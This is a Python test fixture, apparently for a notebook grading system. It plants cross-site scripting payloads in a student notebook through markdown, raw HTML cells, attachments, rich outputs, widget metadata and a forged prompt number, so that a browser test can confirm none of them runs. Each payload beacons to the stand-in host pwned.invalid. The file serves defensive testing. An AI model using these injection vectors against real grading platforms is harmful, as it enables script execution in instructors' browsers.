"""Script for the instructor's browser, by every route into a graded notebook: markdown (<script>,
<img onerror>, a javascript: link, an SVG, TeX \\href), a raw HTML cell, a markdown attachment, and
outputs (HTML, JavaScript, SVG, markdown, a widget view, an image whose metadata breaks out of its
tag, a prompt number carrying HTML). Each payload, if it ever ran, would leave a mark that
tests/test_hostile.py looks for in a real browser: the page title, localStorage, window.__pwned,
or a request to pwned.invalid."""
EXPECT_TOTAL = 0
BASE = "release"
JS = ("window.__pwned=(window.__pwned||[]).concat('{0}');document.title='PWNED {0}';"
      "try{{localStorage.setItem('pwned','{0}')}}catch(e){{}};"
      "try{{fetch('http://pwned.invalid/{0}')}}catch(e){{}}")
MARKDOWN = f"""## My notes

<script>{JS.format('md-script')}</script>

<img src="x" onerror="{JS.format('md-img')}">

[see my derivation](javascript:window.__pwned=['md-link']) <javascript:window.__pwned=['md-autolink']>

<svg onload="{JS.format('md-svg')}"><script>{JS.format('md-svg-script')}</script></svg>

<iframe srcdoc="<script>parent.{JS.format('md-iframe')}</script>"></iframe>

<details open ontoggle="{JS.format('md-details')}">more</details>

$\\href{{javascript:{JS.format('md-tex')}}}{{x}}$ ![figure](attachment:figure.svg)
"""
RAW_CELL = f"<script>{JS.format('raw-script')}</script><img src=x onerror=\"{JS.format('raw-img')}\">"
SVG = (f'<svg xmlns="http://www.w3.org/2000/svg" onload="{JS.format("svg-onload")}">'
       f'<script>{JS.format("svg-script")}</script></svg>')
CODE = f'''
from IPython.display import HTML, Javascript, display
display(HTML("""<script>{JS.format('html-script')}</script><img src=x onerror="{JS.format('html-img')}">"""))
display(Javascript("""{JS.format('javascript')}"""))
display({{"image/svg+xml": """{SVG}"""}}, raw=True)
display({{"text/markdown": """<img src=x onerror="{JS.format('markdown-output')}">"""}}, raw=True)
display({{"application/vnd.jupyter.widget-view+json": {{"model_id": "m", "version_major": 2, "version_minor": 0}},
         "text/html": """<script>{JS.format('widget-view')}</script>"""}}, raw=True)
display({{"image/png": "iVBORw0KGgo="}}, raw=True,
        metadata={{"image/png": {{"width": """1 onerror="{JS.format('png-width')}" """}}}})
try:  # a prompt number carrying HTML: nbconvert writes prompt numbers into the page unescaped
    _k = get_ipython().kernel
    _k.session.send(_k.iopub_socket, "execute_input",
                    {{"code": "", "execution_count": """<img src=x onerror="{JS.format('prompt')}">"""}},
                    parent=get_ipython().parent_header)
except Exception as _e:
    print("could not send:", _e)
HTML("""<script>{JS.format('html-result')}</script>""")
'''


def mutate(nb):
    import base64

    import nbformat
    md = nbformat.v4.new_markdown_cell(MARKDOWN)
    md["attachments"] = {"figure.svg": {"image/svg+xml": base64.b64encode(SVG.encode()).decode()}}
    raw = nbformat.v4.new_raw_cell(RAW_CELL, metadata={"raw_mimetype": "text/html"})
    nb.cells[2:2] = [md, raw, nbformat.v4.new_code_cell(CODE)]
